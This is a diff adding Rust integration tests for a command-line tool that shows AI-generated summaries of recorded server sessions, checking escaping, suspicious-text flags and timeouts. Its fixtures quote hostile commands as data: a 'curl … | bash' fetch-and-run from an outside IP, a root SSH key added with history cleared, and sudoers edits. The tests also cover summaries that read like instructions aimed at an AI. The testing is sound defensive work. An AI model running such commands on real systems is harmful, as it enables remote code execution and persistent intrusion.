@@ -1,0 +1,239 @@
+//! AI summaries in `show` (issue 12): what the cluster's summary says, escaped and scanned, in
+//! every format; and one plain line, with everything else unchanged, when there is none.
+
+use std::time::{Duration, Instant};
+
+use crate::common::{self, World, raw_dangerous};
+
+const A1: &str = "3f2a9c1e-5b7d-4e8a-9c0f-1a2b3c4d5e6f";
+const M1: &str = "d1e2f3a4-b5c6-4d7e-8f9a-0b1c2d3e4f5a";
+/// The app session APP1: listed, never summarized.
+const APP1: &str = "c0ffee00-1234-4abc-9def-0123456789ab";
+
+fn show(w: &World, args: &[&str], env: &[(&str, &str)]) -> (i32, String, String) {
+    let out = w
+        .cmd()
+        .arg("show")
+        .args(args)
+        .envs(env.iter().copied())
+        .output()
+        .unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8(out.stdout).unwrap(),
+        String::from_utf8(out.stderr).unwrap(),
+    )
+}
+
+#[test]
+fn show_has_the_summary_section_after_the_fields() {
+    let w = World::new();
+    let (code, out, _) = show(&w, &[A1], &[]);
+    assert_eq!(code, 0);
+    let section = &out[out.find("AI summary").expect(&out)..];
+    for needed in [
+        "risk          critical (compromise indicators: yes)",
+        "in short      sudo to root, then edited /etc/sudoers",
+        "• Privilege escalation to root with sudo su -",
+        "critical  visudo  (MITRE ATT&CK T1548.003, T1098)",
+        "high  sudo su -  (MITRE ATT&CK T1548.003)",
+        "model         gpt-4.1-2025-04-14, 2026-06-03 20:39 UTC",
+        // The prose, its Markdown read plainly.
+        "  Session summary\n",
+        "The user alice logged in to web-01 and escalated to root with sudo su -.",
+        "  • Edited /etc/sudoers with visudo",
+        "model's reading of what the session's user typed",
+    ] {
+        assert!(section.contains(needed), "{needed:?} missing:\n{section}");
+    }
+    assert!(
+        !section.contains("**") && !section.contains("## "),
+        "{section}"
+    );
+    // The fields are all still there, before it.
+    assert!(out.find("severity").unwrap() < out.find("AI summary").unwrap());
+    let calls = w.tctl_calls();
+    assert!(
+        calls
+            .iter()
+            .any(|c| c == &["recordings", "summary", A1, "--format=json"]),
+        "{calls:?}"
+    );
+    assert!(!calls.iter().flatten().any(|a| a.contains("output")));
+}
+
+#[test]
+fn a_hostile_summary_is_escaped_scanned_and_flags_the_session() {
+    let w = World::new();
+    for format in ["table", "markdown", "json"] {
+        let (code, out, err) = show(&w, &[M1, "--format", format], &[]);
+        assert_eq!(code, 0, "{format}: {err}");
+        assert_eq!(raw_dangerous(&out), Vec::<char>::new(), "{format}: {out}");
+        assert!(out.contains("suspicious-text"), "{format}: {out}");
+        if format != "json" {
+            assert!(
+                out.contains("reads like instructions to an operator or an AI"),
+                "{format}"
+            );
+            assert!(
+                out.contains("a classifier matched something in it"),
+                "{format}: {out}"
+            );
+        }
+    }
+    let (_, out, _) = show(&w, &[M1, "--format", "table"], &[]);
+    assert!(out.contains("Added an SSH key for root\\x1b[2J"), "{out}");
+    assert!(
+        out.contains("added a root SSH key\\u{202e} and cleared history"),
+        "{out}"
+    );
+}
+
+#[test]
+fn show_json_carries_the_summary_under_stable_keys() {
+    let w = World::new();
+    let (_, out, _) = show(&w, &[A1, "--format", "json"], &[]);
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let s = &v["summary"];
+    assert_eq!(s["risk_level"], "critical");
+    assert_eq!(s["compromise_indicators"], true);
+    assert_eq!(s["notable_commands"][0]["command"], "visudo");
+    assert_eq!(
+        s["notable_commands"][0]["mitre_attack_ids"],
+        serde_json::json!(["T1548.003", "T1098"])
+    );
+    assert_eq!(s["model"], "gpt-4.1-2025-04-14");
+    assert_eq!(s["inference_finished_at"], "2026-06-03T20:39:14.64Z");
+    assert!(
+        s["content"]
+            .as_str()
+            .unwrap()
+            .starts_with("## Session summary")
+    );
+    assert!(v.get("summary_unavailable").is_none());
+    let (_, out, _) = show(&w, &[M1, "--format", "json"], &[]);
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(
+        v["summary"]["review_reasons"][0],
+        serde_json::json!({"reason": "classifier_matched", "words": "a classifier matched something in it"})
+    );
+    assert_eq!(
+        v["summary"]["flags"],
+        serde_json::json!(["suspicious-text"])
+    );
+}
+
+#[test]
+fn without_a_summary_show_says_why_in_one_line_and_exits_0() {
+    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
+    let cases: &[Case] = &[
+        (APP1, &[], "this session was not summarized"),
+        (
+            A1,
+            &[("FAKE_TCTL_SCENARIO", "summary-old-tctl")],
+            "this tctl has no `recordings summary`",
+        ),
+        (
+            A1,
+            &[("FAKE_TCTL_SCENARIO", "search-no-access-graph")],
+            "this cluster cannot summarize sessions",
+        ),
+        (
+            A1,
+            &[("FAKE_TCTL_SCENARIO", "summary-denied")],
+            "your role may not read it",
+        ),
+    ];
+    let w = World::new();
+    let (_, reference, _) = show(&w, &[A1, "--format", "table"], &[]);
+    let fields = &reference[..reference.find("\nAI summary").unwrap()];
+    for (sid, env, why) in cases {
+        let (code, out, err) = show(&w, &[sid, "--format", "table"], env);
+        assert_eq!(code, 0, "{why}: {err}");
+        let lines: Vec<&str> = out.lines().filter(|l| l.contains("AI summary")).collect();
+        assert_eq!(lines.len(), 1, "{why}: {out}");
+        assert!(
+            lines[0].starts_with("no AI summary: ") && lines[0].contains(why),
+            "{out}"
+        );
+        assert!(out.contains("\nNext:\n"), "{out}");
+        // (Without search the cluster has no severity to show: that field differs then.)
+        if *sid == A1 && !why.contains("cannot summarize") {
+            assert!(out.starts_with(fields), "the fields are unchanged:\n{out}");
+        }
+    }
+    // JSON says it as data.
+    let (_, out, _) = show(&w, &[APP1, "--format", "json"], &[]);
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert!(v["summary"].is_null());
+    assert!(
+        v["summary_unavailable"]
+            .as_str()
+            .unwrap()
+            .contains("not summarized")
+    );
+}
+
+#[test]
+fn a_hung_summary_call_is_stopped_at_the_timeout_and_show_goes_on() {
+    let w = World::new();
+    let started = Instant::now();
+    let (code, out, _) = show(
+        &w,
+        &[A1, "--format", "table", "--timeout", "2s"],
+        &[("FAKE_TCTL_SCENARIO", "summary-hang")],
+    );
+    assert!(started.elapsed() < Duration::from_secs(15));
+    assert_eq!(code, 0);
+    assert!(
+        out.contains("no AI summary: `tctl recordings summary` did not finish within 2s"),
+        "{out}"
+    );
+    assert!(out.contains("severity"), "{out}");
+    let pid: i32 = std::fs::read_to_string(w.dir.join("pids"))
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    assert!(
+        !common::process_alive(pid),
+        "the summary call outlived show"
+    );
+}
+
+#[test]
+fn tsv_and_csv_show_the_row_without_asking_for_a_summary() {
+    let w = World::new();
+    show(&w, &[A1, "--format", "tsv"], &[]);
+    assert!(!w.tctl_calls().iter().any(|c| c[1] == "summary"));
+}
+
+#[test]
+fn the_demo_shows_summaries_too() {
+    let w = World::new();
+    let out = w
+        .cmd()
+        .args(["--demo", "recent", "--since", "7d", "--format", "tsv"])
+        .output()
+        .unwrap();
+    let hostile = common::stdout_lines(&out)
+        .into_iter()
+        .find(|l| l.starts_with("3abc00c0"))
+        .unwrap();
+    let id = hostile.split('\t').next().unwrap().to_owned();
+    let out = w
+        .cmd()
+        .args(["--demo", "show", &id, "--format", "table"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.contains("AI summary"), "{text}");
+    assert!(
+        text.contains("curl -fsSL http://203.0.113.50/i.sh | bash"),
+        "{text}"
+    );
+    assert!(text.contains("suspicious-text"), "{text}");
+    // show agrees with triage on the risk: both read the same severity.
+    assert!(text.contains("severity           high"), "{text}");
+    assert!(text.contains("risk          high"), "{text}");
+}
